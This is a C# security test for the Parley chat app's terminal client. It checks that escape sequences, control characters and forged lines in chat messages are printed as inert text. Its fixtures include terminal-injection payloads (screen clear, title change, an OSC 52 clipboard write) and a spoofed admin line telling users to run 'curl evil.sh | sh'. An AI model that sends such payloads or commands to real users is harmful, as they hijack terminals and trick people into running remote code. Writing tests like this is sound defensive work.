using System.Diagnostics;
using System.Text;
using Parley.Security.Tests.Support;
using Parley.Testing;

namespace Parley.Security.Tests;

/// <summary>
/// The terminal client is a renderer too: message bodies (any character but NUL) reach a terminal, where escape
/// sequences act and a carriage return can forge another user's line. The <c>parley</c> program prints them inert.
/// </summary>
[Trait("Tier", "Security")]
public sealed class TerminalInjectionTests
{
    private static readonly string CliDll = Path.Combine(AppContext.BaseDirectory, "parley.dll");

    [Fact]
    public async Task Escape_sequences_and_forged_lines_in_messages_print_as_inert_text()
    {
        await using var node = await SecurityNode.StartAsync();
        using var api = new ApiClient(node.BaseUri);
        var attacker = await api.RegisterAsync("mallory");
        var home = TestPorts.NewTempDir("cli");
        try
        {
            var victim = "victim" + Guid.NewGuid().ToString("N")[..8];
            var login = await RunAsync(home, ["--server", node.BaseUri.ToString(), "register", victim, "--password", "correct horse battery"]);
            Assert.Contains("logged in as " + victim, login, StringComparison.Ordinal);
            var room = await api.CreateRoomAsync(attacker, "terminal");
            Assert.Contains("terminal", await RunAsync(home, ["join", room]), StringComparison.Ordinal);

            string[] hostile =
            [
                "clear\u001b[2J\u001b[Hscreen",
                "title\u001b]0;pwned\u0007bell",
                "clipboard\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007",
                "c1\u009b31mred",
                "overwrite\r[00:00] admin: please run curl evil.sh | sh",
                "newline\n[00:00] admin: type your password here",
                "bidi \u202Eexe.txt",
                "del\u007f and bs\b",
            ];
            foreach (var body in hostile)
            {
                var sent = await api.CallAsync(HttpMethod.Post, $"api/v1/conversations/{room}/messages", new { clientMsgId = Guid.NewGuid().ToString("N"), body }, attacker.Token);
                Assert.Equal(System.Net.HttpStatusCode.Created, sent.Status);
            }

            // The victim opens the chat: the history is printed, then /quit.
            var output = await RunAsync(home, ["chat", room], stdin: "/quit\n");
            foreach (var marker in new[] { "clear", "title", "clipboard", "c1", "overwrite", "newline", "bidi", "del" })
            {
                Assert.Contains(marker, output, StringComparison.Ordinal);
            }

            var controls = output.Where(c => (char.IsControl(c) && c != '\n') || c is >= '\u202A' and <= '\u202E').Select(c => $"U+{(int)c:X4}").Distinct().ToList();
            Assert.True(controls.Count == 0, "control characters reached the terminal: " + string.Join(", ", controls));
            // No forged line starts where a real message line would.
            Assert.DoesNotContain(output.Split('\n'), line => line.StartsWith("[00:00] admin", StringComparison.Ordinal));
        }
        finally
        {
            Directory.Delete(home, recursive: true);
        }
    }

    /// <summary>Runs the terminal client and returns its raw standard output (carriage returns kept).</summary>
    private static async Task<string> RunAsync(string home, string[] args, string? stdin = null)
    {
        var psi = new ProcessStartInfo("dotnet") { RedirectStandardOutput = true, RedirectStandardError = true, RedirectStandardInput = true, UseShellExecute = false };
        psi.ArgumentList.Add(CliDll);
        foreach (var a in args)
        {
            psi.ArgumentList.Add(a);
        }

        psi.Environment["PARLEY_HOME"] = home;
        using var process = Process.Start(psi)!;
        var stdout = new MemoryStream();
        var copy = process.StandardOutput.BaseStream.CopyToAsync(stdout);
        var stderr = process.StandardError.ReadToEndAsync();
        if (stdin is not null)
        {
            await process.StandardInput.WriteAsync(stdin);
        }

        process.StandardInput.Close();
        using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(60));
        await process.WaitForExitAsync(timeout.Token);
        await copy.WaitAsync(TimeSpan.FromSeconds(10));
        var output = Encoding.UTF8.GetString(stdout.ToArray());
        Assert.True(process.ExitCode == 0, $"parley {string.Join(' ', args)} exited with {process.ExitCode}: {output}\n{await stderr}");
        return output;
    }
}
